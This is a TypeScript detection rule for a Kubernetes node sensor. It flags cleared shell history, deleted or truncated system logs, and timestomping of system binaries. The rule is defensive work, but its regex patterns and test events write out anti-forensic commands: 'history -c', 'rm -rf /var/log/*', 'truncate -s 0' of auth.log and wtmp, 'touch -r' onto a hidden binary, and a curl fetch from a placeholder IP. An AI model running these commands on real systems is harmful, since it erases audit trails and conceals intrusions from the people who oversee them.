import { type NodeEvent, NodeEventType } from '../../../node/nodeEvent';
import { falcoAlertEvent, processExecEvent } from '../../../node/exampleNodeEvents';
import { type DetectionContext, defaultDetectionContext } from '../../detectionContext';
import { commandLineOf, nodeDedupKey, nodeEventEntities } from '../../nodeEntities';
import { baseName, commandSearchText, isExec, isSystemWorkload, lineage, parsedCommands, processName, programName } from '../../predicates/nodeProcesses';
import { defineNodeRule, Intent, Severity } from '../../rule';

const Tampering = { history: 'history', logs: 'logs', timestamps: 'timestamps' } as const;
type Tampering = (typeof Tampering)[keyof typeof Tampering];

interface TamperingIndicator {
  kind: Tampering;
  indicator: string;
}

/** Shell history files: bash, zsh, ash/BusyBox, ksh, Python, MySQL, PostgreSQL, Node.js REPL, fish. */
const HISTORY_FILE = /(?:^|\/)\.(?:\w+_history|lesshst)$|(?:^|\/)fish_history$/;
/** Shell settings that stop history from being written. */
const HISTORY_OFF: readonly { indicator: string; pattern: RegExp }[] = [
  { indicator: 'history -c', pattern: /(?:^|[\s;&|(])history\s+-c\b/ },
  { indicator: 'unset HISTFILE', pattern: /\bunset\s+(?:-v\s+)?HISTFILE\b/ },
  { indicator: 'HISTFILE=/dev/null', pattern: /\bHISTFILE=["']?\/dev\/null\b/ },
  { indicator: 'HISTFILESIZE=0 or HISTSIZE=0', pattern: /\bHIST(?:FILE)?SIZE=["']?0\b/ },
  { indicator: 'set +o history', pattern: /\bset\s+\+o\s+history\b/ },
];
/** `> ~/.bash_history`, `cat /dev/null > /root/.bash_history` (not `>>`, which appends). */
const HISTORY_TRUNCATED = /(?:^|[^>&\d])>\s*["']?[^\s>]*(?:\.\w+_history|fish_history)\b/;

/** System and audit logs an intruder erases; rotated copies (`syslog.1`, `.gz`) do not match. */
const SYSTEM_LOG = /^\/var\/(?:log\/(?:syslog|messages|auth\.log|secure|kern\.log|daemon\.log|user\.log|wtmp|btmp|lastlog|faillog|cloud-init(?:-output)?\.log|waagent\.log|dpkg\.log|apt\/(?:history|term)\.log|audit(?:\/.*)?|journal(?:\/.*)?)|run\/utmp)$/;
/** The whole log directory: `/var/log`, `/var/log/`, `/var/log/*`. */
const LOG_DIRECTORY = /^\/var\/log\/?\*?$/;
/** `> /var/log/auth.log`, `: > /var/log/wtmp`. */
const LOG_TRUNCATED = /(?:^|[^>&\d])>\s*["']?(\/var\/(?:log|run)\/\S+?)["']?(?=$|[\s;&|])/g;

/** Directories of system binaries and libraries whose timestamps an intruder copies onto dropped files. */
const SYSTEM_BINARY_PATH = /^\/(?:usr\/(?:local\/)?)?(?:s?bin|lib|lib64|libexec)\//;

const DESTRUCTIVE_COMMANDS: ReadonlySet<string> = new Set(['rm', 'shred', 'truncate', 'unlink', 'srm', 'wipe']);
/** Every command the rule reads the operands of: the destructive ones, those that overwrite with /dev/null, `touch`. */
const FILE_COMMANDS: ReadonlySet<string> = new Set([...DESTRUCTIVE_COMMANDS, 'ln', 'cp', 'mv', 'touch']);

/** Files a command destroys: `rm -f x`, `shred -u x`, `truncate -s0 x`, `ln -sf /dev/null x`, `cp /dev/null x`. */
function destroyedFiles(words: readonly string[]): { files: string[]; recursive: boolean } {
  const name = baseName(words[0] ?? '').toLowerCase();
  const args = words.slice(1);
  const operands = args.filter((arg, index) => !arg.startsWith('-') && !(name === 'truncate' && /^(?:-s|--size)$/.test(args[index - 1] ?? '')));
  if (DESTRUCTIVE_COMMANDS.has(name)) return { files: operands, recursive: args.some((arg) => /^-[a-zA-Z]*[rR]|^--recursive$/.test(arg)) };
  if ((name === 'ln' || name === 'cp' || name === 'mv') && operands.includes('/dev/null')) return { files: operands.filter((operand) => operand !== '/dev/null'), recursive: false };
  return { files: [], recursive: false };
}

/** The history, log and timestamp tampering the command line (and its `sh -c` script) shows. */
function tamperingIndicators(event: NodeEvent, context: DetectionContext): TamperingIndicator[] {
  const found: TamperingIndicator[] = [];
  const text = commandSearchText(event.process, context);
  // The patterns need these fragments (all are case-sensitive): a plain search skips them on ordinary command lines.
  if (text.includes('HIST') || text.includes('history')) {
    for (const { indicator, pattern } of HISTORY_OFF) if (pattern.test(text)) found.push({ kind: Tampering.history, indicator });
  }
  const redirects = text.includes('>');
  if (redirects && text.includes('_history') && HISTORY_TRUNCATED.test(text)) found.push({ kind: Tampering.history, indicator: 'history file truncated' });
  if (redirects && text.includes('/var/')) {
    for (const match of text.matchAll(LOG_TRUNCATED)) {
      if (SYSTEM_LOG.test(match[1] ?? '')) found.push({ kind: Tampering.logs, indicator: `${match[1] ?? ''} truncated` });
    }
  }
  for (const command of parsedCommands(event.process, context)) {
    const name = command.lowerName;
    if (!FILE_COMMANDS.has(name)) continue;
    const words = command.words;
    const { files, recursive } = destroyedFiles(words);
    for (const file of files) {
      if (HISTORY_FILE.test(file)) found.push({ kind: Tampering.history, indicator: `${name} ${file}` });
      else if (SYSTEM_LOG.test(file) || (LOG_DIRECTORY.test(file) && (recursive || file.endsWith('*')))) found.push({ kind: Tampering.logs, indicator: `${name} ${file}` });
    }
    if (name === 'touch') {
      const options = words.slice(1);
      const stamped = options.some((word) => /^-[a-z]*[rtd]$|^--(?:reference|date)(?:=|$)/.test(word));
      const target = options.find((word) => SYSTEM_BINARY_PATH.test(word));
      if (stamped && target !== undefined) found.push({ kind: Tampering.timestamps, indicator: `touch ${options.join(' ')}` });
    }
  }
  return found;
}

/** logrotate and package managers remove and truncate logs by design. */
const LOG_MAINTAINERS = /^(?:logrotate|dpkg|apt|apt-get|apt\.systemd\.daily|unattended-upgrades?|yum|dnf|rpm|tdnf|cloud-init)$/i;

const falcoKinds: Readonly<Record<string, Tampering>> = {
  'Clear Log Activities': Tampering.logs,
  'Delete or rename shell history': Tampering.history,
};

function kindOf(event: NodeEvent): Tampering {
  if (event.falco !== undefined) return falcoKinds[event.falco.rule] ?? Tampering.logs;
  return tamperingIndicators(event, defaultDetectionContext)[0]?.kind ?? Tampering.history;
}

const alertTypes: Readonly<Record<Tampering, string>> = {
  history: 'K8S.NODE_HistoryFileCleared',
  logs: 'K8S.NODE_SystemLogRemoval',
  timestamps: 'K8S.NODE_TimestampTampering',
};
const displayNames: Readonly<Record<Tampering, string>> = {
  history: 'A shell history file has been cleared',
  logs: 'Possible log tampering: system logs removed',
  timestamps: 'Suspicious file timestamp modification',
};

const app = { namespace: 'shop', name: 'api-5b6c7d8e9f-k3j2h', container: 'api', image: 'contoso.azurecr.io/shop/api:2.14.0' };

export const historyOrLogTampering = defineNodeRule({
  id: 'history-or-log-tampering',
  alertType: 'K8S.NODE_HistoryFileCleared',
  displayName: 'Shell history or logs tampered with',
  description:
    'A command erased the traces an intruder leaves: it cleared or disabled the shell history (`history -c`, `unset HISTFILE`, ' +
    '`HISTFILESIZE=0`, removing or truncating `~/.bash_history`), removed or truncated system and audit logs (`rm -rf /var/log/*`, ' +
    '`truncate -s0 /var/log/auth.log`, wtmp, btmp, the journal), or copied timestamps onto files among system binaries ' +
    '(`touch -r /bin/ls /usr/bin/.backdoor`) so that dropped tools look old. logrotate and package managers are ignored.',
  severity: Severity.Medium,
  severityFor: (event) => (kindOf(event) === Tampering.timestamps ? Severity.Low : Severity.Medium),
  alertTypeFor: (event) => alertTypes[kindOf(event)],
  displayNameFor: (event) => displayNames[kindOf(event)],
  intent: Intent.DefenseEvasion,
  techniques: ['T1070.003', 'T1070.002', 'T1070.006', 'T1562.003'],
  remediation: [
    'Treat the container or node as compromised: the command hides what ran before it. Collect what is left (process tree, network connections) before deleting it.',
    'Rely on logs kept off the node: the audit log, Container Insights, and the sensor events Argus received before the deletion.',
    'For timestamp changes, check the named binaries against the package database (`dpkg --verify`, `rpm -Va`) or the image.',
  ],
  falsePositives: [
    'Cleanup scripts that empty logs on purpose (disk pressure), and image builds that remove logs and history to slim the image.',
    'Packaging and reproducible-build tools that set file times under /usr (rare on a running node).',
  ],
  references: [
    'https://attack.mitre.org/techniques/T1070/003/',
    'https://attack.mitre.org/techniques/T1070/002/',
    'https://attack.mitre.org/techniques/T1070/006/',
    'https://learn.microsoft.com/azure/defender-for-cloud/alerts-containers',
  ],
  equivalents: {
    defender: ['K8S.NODE_HistoryFileCleared', 'K8S.NODE_SystemLogRemoval', 'K8S.NODE_TimestampTampering'],
    falco: Object.keys(falcoKinds),
    guardDuty: ['DefenseEvasion:Runtime/SuspiciousCommand'],
    elastic: ['Tampering of Shell Command-Line History', 'System Log File Deletion', 'Timestomping using Touch Command'],
  },
  eventTypes: [NodeEventType.processExec],
  match: (event, context) =>
    isExec(event) &&
    !isSystemWorkload(event, context) &&
    // The indicators first: they reject almost every command, the lineage check walks every ancestor.
    tamperingIndicators(event, context).length > 0 &&
    !lineage(event).some((process) => LOG_MAINTAINERS.test(processName(process)) || LOG_MAINTAINERS.test(programName(process))),
  entities: (event) => nodeEventEntities(event),
  details: (event, context) => ({
    command: commandLineOf(event.process),
    indicators: tamperingIndicators(event, context)
      .map((found) => found.indicator)
      .join(', '),
    ...(event.falco === undefined ? {} : { falcoRule: event.falco.rule }),
  }),
  dedupKey: (event) => nodeDedupKey(event, kindOf(event)),
  examples: [
    {
      name: 'history -c and the history file removed in a container',
      expect: 'alert',
      event: processExecEvent({ binary: '/bin/bash', arguments: '-c "history -c; rm -f /root/.bash_history"', pod: app, parent: { binary: '/bin/bash', arguments: '' } }),
    },
    {
      name: 'unset HISTFILE before working',
      expect: 'alert',
      event: processExecEvent({ binary: '/bin/sh', arguments: '-c "unset HISTFILE; export HISTFILESIZE=0; curl -s http://198.51.100.23/x"', pod: app }),
    },
    {
      name: 'rm -rf /var/log/* on the node',
      expect: 'alert',
      event: processExecEvent({ binary: '/usr/bin/rm', arguments: '-rf /var/log/*', pod: null, parent: { binary: '/bin/bash', arguments: '', pod: null } }),
    },
    {
      name: 'truncate -s0 of auth.log and wtmp',
      expect: 'alert',
      event: processExecEvent({ binary: '/usr/bin/truncate', arguments: '-s 0 /var/log/auth.log /var/log/wtmp', pod: null }),
    },
    {
      name: 'touch -r copies /bin/ls times onto a dropped binary',
      expect: 'alert',
      event: processExecEvent({ binary: '/usr/bin/touch', arguments: '-r /bin/ls /usr/bin/.sysupdate', pod: null, parent: { binary: '/bin/sh', arguments: '-c ./setup.sh', pod: null } }),
    },
    {
      name: 'Falco: Delete or rename shell history',
      expect: 'alert',
      event: falcoAlertEvent({
        rule: 'Delete or rename shell history',
        priority: 'Warning',
        outputFields: { 'proc.cmdline': 'rm /root/.bash_history', 'proc.exepath': '/usr/bin/rm', 'proc.name': 'rm', 'proc.pname': 'bash', 'fd.name': '/root/.bash_history', 'evt.type': 'unlinkat' },
        tags: ['maturity_incubating', 'host', 'container', 'process', 'filesystem', 'mitre_defense_evasion', 'T1070'],
      }),
    },
    {
      name: 'logrotate removes an old rotated log through its postrotate script',
      expect: 'none',
      event: processExecEvent({
        binary: '/usr/bin/rm',
        arguments: '-f /var/log/syslog.7.gz',
        pod: null,
        parent: { binary: '/bin/sh', arguments: '-c "rm -f /var/log/syslog.7.gz"', pod: null },
        ancestors: [{ binary: '/usr/sbin/logrotate', arguments: '/etc/logrotate.conf', pod: null }],
      }),
    },
    {
      name: 'an application truncates its own log file',
      expect: 'none',
      event: processExecEvent({ binary: '/usr/bin/truncate', arguments: '-s 0 /var/log/app/worker.log', pod: app }),
    },
    {
      name: 'the history is appended, not cleared',
      expect: 'none',
      event: processExecEvent({ binary: '/bin/bash', arguments: '-c "echo ls >> /root/.bash_history"', pod: app }),
    },
    {
      name: 'touch creates a marker file in /tmp',
      expect: 'none',
      event: processExecEvent({ binary: '/usr/bin/touch', arguments: '-d "2 hours ago" /tmp/last-run', pod: app }),
    },
  ],
});
